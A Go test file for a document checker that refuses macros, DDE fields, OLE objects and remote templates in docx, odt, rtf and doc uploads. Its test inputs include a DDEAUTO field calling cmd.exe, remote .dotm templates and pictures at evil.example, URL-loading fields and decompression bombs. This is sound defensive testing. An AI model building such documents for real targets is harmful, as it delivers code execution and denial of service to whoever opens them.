package active_test

import (
	"archive/zip"
	"bytes"
	"encoding/binary"
	"fmt"
	"slices"
	"strings"
	"testing"
	"unicode/utf16"

	"trien/internal/active"
	"trien/internal/problem"
)

// zipped makes a zip of members given as name and content in turn.
func zipped(t testing.TB, members ...string) []byte {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for i := 0; i < len(members); i += 2 {
		w, err := z.Create(members[i])
		if err == nil {
			_, err = w.Write([]byte(members[i+1]))
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// docx makes a docx with more members.
func docx(t testing.TB, more ...string) []byte {
	return zipped(t, append([]string{"[Content_Types].xml", "<Types/>", "word/document.xml", "<document/>"}, more...)...)
}

func odt(t testing.TB, content string, more ...string) []byte {
	return zipped(t, append([]string{"mimetype", "application/vnd.oasis.opendocument.text", "content.xml", content}, more...)...)
}

func rel(kind, target, mode string) string {
	return fmt.Sprintf(`<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" Target="%s" TargetMode="%s"/></Relationships>`, kind, target, mode)
}

// compound makes a compound file with entries of the given names: one FAT sector, then a directory.
func compound(names ...string) []byte {
	sectors := (len(names) + 3) / 4
	b := make([]byte, 512*(2+sectors))
	copy(b, "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1")
	binary.LittleEndian.PutUint16(b[30:], 9)
	binary.LittleEndian.PutUint32(b[48:], 1)
	binary.LittleEndian.PutUint32(b[68:], 0xFFFFFFFE)
	for at := 76; at < 512; at += 4 {
		binary.LittleEndian.PutUint32(b[at:], 0xFFFFFFFF)
	}
	binary.LittleEndian.PutUint32(b[76:], 0)
	fat := b[512:1024]
	for i := range 128 {
		binary.LittleEndian.PutUint32(fat[4*i:], 0xFFFFFFFF)
	}
	for i := range sectors {
		next := uint32(i + 2)
		if i+1 == sectors {
			next = 0xFFFFFFFE
		}
		binary.LittleEndian.PutUint32(fat[4*(i+1):], next)
	}
	for i, name := range names {
		e := b[1024+128*i:]
		units := utf16.Encode([]rune(name))
		for j, u := range units {
			binary.LittleEndian.PutUint16(e[2*j:], u)
		}
		binary.LittleEndian.PutUint16(e[64:], uint16(2*len(units)+2))
		e[66] = 2
	}
	return b
}

func TestCheck(t *testing.T) {
	const link = "word/_rels/document.xml.rels"
	instr := func(s string) string { return "<document><p><r><instrText>" + s + "</instrText></r></p></document>" }
	for _, c := range []struct {
		name, file string
		data       []byte
		kind       problem.Kind
	}{
		{"plain docx", "a.docx", docx(t), ""},
		{"capital ending", "A.DOCX", docx(t), ""},
		{"hyperlink", "a.docx", docx(t, link, rel("hyperlink", "https://example.vn", "External")), ""},
		{"template on the drafter's own disk", "a.docx", docx(t, "word/_rels/settings.xml.rels", rel("attachedTemplate", `file:///C:\Users\a\mau.dotx`, "External")), ""},
		{"chart with its workbook", "a.docx", docx(t, "word/embeddings/Microsoft_Excel_Sheet.xlsx", "PK"), ""},
		{"page number field", "a.docx", docx(t, "word/footer1.xml", instr("PAGE \\* MERGEFORMAT")), ""},
		{"plain odt", "a.odt", odt(t, "<document-content/>"), ""},
		{"picture inside an odt", "a.odt", odt(t, `<document-content xmlns:xlink="x"><image xlink:href="Pictures/1.png"/></document-content>`), ""},
		{"an odt of something else", "a.odt", odt(t, `<html/>`), problem.Malformed},
		{"plain rtf", "a.rtf", []byte(`{\rtf1 Xin chao {\field{\*\fldinst { PAGE }}{\fldrslt 1}}}`), ""},
		{"plain doc", "a.doc", compound("Root Entry", "WordDocument", "1Table"), ""},
		{"fodt", "a.fodt", []byte(`<?xml version="1.0"?><office:document xmlns:office="urn:x"/>`), ""},

		{"empty", "a.docx", nil, problem.Malformed},
		{"neither", "a.docx", []byte("hello"), problem.Malformed},
		{"cut short", "a.docx", docx(t)[:60], problem.Malformed},
		{"another zip", "a.docx", zipped(t, "a.txt", "x"), problem.Malformed},
		{"ending that lies", "a.odt", docx(t), problem.Malformed},
		{"no ending", "a", docx(t), problem.Malformed},
		{"xml that breaks off", "a.docx", docx(t, "word/header1.xml", "<p><r>"), problem.Malformed},
		{"macros", "a.docx", docx(t, "word/vbaProject.bin", "x"), problem.Refused},
		{"macros by content type", "a.docx", zipped(t, "[Content_Types].xml", `<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>`, "word/document.xml", "<d/>"), problem.Refused},
		{"ActiveX", "a.docx", docx(t, "word/activeX/activeX1.xml", "<x/>"), problem.Refused},
		{"OLE object", "a.docx", docx(t, "word/embeddings/oleObject1.bin", "x"), problem.Refused},
		{"remote template", "a.docx", docx(t, "word/_rels/settings.xml.rels", rel("attachedTemplate", "https://evil.example/t.dotm", "External")), problem.Refused},
		{"template on a share", "a.docx", docx(t, "word/_rels/settings.xml.rels", rel("attachedTemplate", `file://\\host\share\t.dotm`, "External")), problem.Refused},
		{"remote picture", "a.docx", docx(t, link, rel("image", "http://evil.example/p.png", "External")), problem.Refused},
		{"linked OLE", "a.docx", docx(t, link, rel("oleObject", "x", "External")), problem.Refused},
		{"html chunk", "a.docx", docx(t, link, rel("afChunk", "a.html", "Internal")), problem.Refused},
		{"DDE", "a.docx", docx(t, "word/header1.xml", instr(`DDEAUTO c:\\windows\\cmd.exe`)), problem.Refused},
		{"DDE in pieces", "a.docx", docx(t, "word/header1.xml", "<p><instrText>DDEA</instrText><instrText>UTO x</instrText></p>"), problem.Refused},
		{"simple field that loads", "a.docx", docx(t, "word/header1.xml", `<p xmlns:w="w"><fldSimple w:instr=" INCLUDETEXT http://x "/></p>`), problem.Refused},
		{"macros in an odt", "a.odt", odt(t, "<c/>", "Basic/Standard/Module1.xml", "<m/>"), problem.Refused},
		{"event in an odt", "a.odt", odt(t, `<c><event-listener/></c>`), problem.Refused},
		{"remote picture in an odt", "a.odt", odt(t, `<c xmlns:xlink="x"><image xlink:href="http://x/1.png"/></c>`), problem.Refused},
		{"OLE in an odt", "a.odt", odt(t, `<c><object-ole/></c>`), problem.Refused},
		{"odt with a password", "a.odt", odt(t, `<c/>`, "META-INF/manifest.xml", "<m><encryption-data/></m>"), problem.Encrypted},
		{"script in an fodt", "a.fodt", []byte(`<?xml version="1.0"?><office:document xmlns:office="urn:x"><office:script/></office:document>`), problem.Refused},
		{"docx with a password", "a.docx", compound("Root Entry", "EncryptedPackage"), problem.Encrypted},
		{"doc with macros", "a.doc", compound("Root Entry", "WordDocument", "1Table", "Data", "Macros", "VBA"), problem.Refused},
		{"doc with an object", "a.doc", compound("Root Entry", "WordDocument", "ObjectPool"), problem.Refused},
		{"another compound file", "a.doc", compound("Root Entry", "Workbook"), problem.Malformed},
		{"compound file cut short", "a.doc", compound("Root Entry", "WordDocument")[:600], problem.Malformed},
		{"rtf with an object", "a.rtf", []byte(`{\rtf1{\object\objemb{\*\objdata 0105}}}`), problem.Refused},
		{"rtf with a field that loads", "a.rtf", []byte(`{\rtf1{\field{\*\fldinst {\b INCLUDEPICTURE "http://x"}}{\fldrslt}}}`), problem.Refused},
		{"rtf with a remote template", "a.rtf", []byte(`{\rtf1{\*\template http://x/t.dotm}}`), problem.Refused},
	} {
		t.Run(c.name, func(t *testing.T) {
			_, err := active.Check(c.file, c.data)
			kindIs(t, err, c.kind)
			if c.kind == problem.Refused && !strings.Contains(fmt.Sprint(problem.WordsOf(err)), "từ chối") {
				t.Errorf("words: %v", problem.WordsOf(err))
			}
		})
	}
}

// TestAllKindsAreNamed shows 379.5.4: whoever decides about a file that waits sees every kind of what it carries.
func TestAllKindsAreNamed(t *testing.T) {
	remote := rel("image", "http://evil.example/p.png", "External")
	for name, data := range map[string][]byte{
		"a.docx": docx(t, "word/_rels/document.xml.rels", remote, "word/embeddings/o.bin", "x", "word/vbaProject.bin", "x", "word/header1.xml", "<p><r>"),
		"a.odt":  odt(t, `<document-content xmlns:xlink="x"><image xlink:href="http://x/1.png"/><object-ole/><script/><script/></document-content>`),
		"a.fodt": []byte(`<office:document xmlns:office="urn:x" xmlns:xlink="x"><script/><image xlink:href="http://x/1.png"/><object-ole/></office:document>`),
		"a.rtf":  []byte(`{\rtf1{\object\objemb{\*\objdata 0105}}{\field{\*\fldinst { INCLUDEPICTURE "http://x"}}{\fldrslt}}{\*\template http://x/t.dotm}}`),
		"a.doc":  compound("Root Entry", "WordDocument", "ObjectPool", "Macros"),
	} {
		_, err := active.Check(name, data)
		c, found := active.Found(err)
		if !found {
			t.Fatalf("%s: %v", name, err)
		}
		want := map[string][]string{"a.rtf": {"embedded", "links"}, "a.doc": {"embedded", "macros"}}[name]
		if want == nil {
			want = []string{"embedded", "links", "macros"}
		}
		if got := slices.Sorted(slices.Values(append([]string{c.Code}, c.Also...))); !slices.Equal(got, want) {
			t.Errorf("%s: %q, want %q", name, got, want)
		}
	}
}

func TestBombs(t *testing.T) {
	var many []string
	for i := range 10_001 {
		many = append(many, fmt.Sprintf("word/%d.xml", i), "<x/>")
	}
	deep := strings.Repeat("<a>", 2000) + strings.Repeat("</a>", 2000)
	large := docx(t, "word/media/x.bin", strings.Repeat("0", 1<<20))
	at := bytes.LastIndex(large, []byte("PK\x01\x02")) // the directory's entry for the last member says how much it unpacks to
	binary.LittleEndian.PutUint32(large[at+24:], 0xFFFFFFF0)
	for name, data := range map[string][]byte{"too many members": docx(t, many...), "says that it is huge": large, "nested without end": docx(t, "word/a.xml", deep)} {
		t.Run(name, func(t *testing.T) {
			_, err := active.Check("a.docx", data)
			kindIs(t, err, problem.Limit)
		})
	}
}

func TestSamplesPass(t *testing.T) {
	for _, name := range []string{"quyet-dinh.docx", "cong-van.docx", "bao-cao.docx", "bao-cao.fodt"} {
		if _, err := active.Check(name, sample(t, name)); err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
}

func TestMetadata(t *testing.T) {
	data := docx(t, "docProps/core.xml", `<cp:coreProperties xmlns:cp="c" xmlns:dc="d"><dc:title>Báo cáo</dc:title><cp:keywords>mật</cp:keywords></cp:coreProperties>`,
		"docProps/custom.xml", `<Properties xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes"><property name="Độ mật"><vt:lpwstr>Tối mật</vt:lpwstr></property></Properties>`)
	want := []string{"title: Báo cáo", "keywords: mật", "Độ mật: Tối mật"}
	if got := active.Metadata(data); !slices.Equal(got, want) {
		t.Errorf("%q, want %q", got, want)
	}
	meta := odt(t, "<c/>", "meta.xml", `<m xmlns:meta="m"><meta:user-defined meta:name="Độ mật">Mật</meta:user-defined></m>`)
	if got := active.Metadata(meta); !slices.Equal(got, []string{"Độ mật: Mật"}) {
		t.Errorf("%q", got)
	}
	if got := active.Metadata([]byte("no zip")); got != nil {
		t.Errorf("%q", got)
	}
}

func FuzzCheck(f *testing.F) {
	f.Add("a.docx", docx(f))
	f.Add("a.doc", compound("Root Entry", "WordDocument"))
	f.Add("a.rtf", []byte(`{\rtf1{\field{\*\fldinst PAGE}}}`))
	f.Add("a.odt", odt(f, "<c/>"))
	f.Fuzz(func(t *testing.T, name string, data []byte) {
		if _, err := active.Check(name, data); problem.KindOf(err) == problem.Internal {
			t.Error(err)
		}
		active.Metadata(data)
	})
}
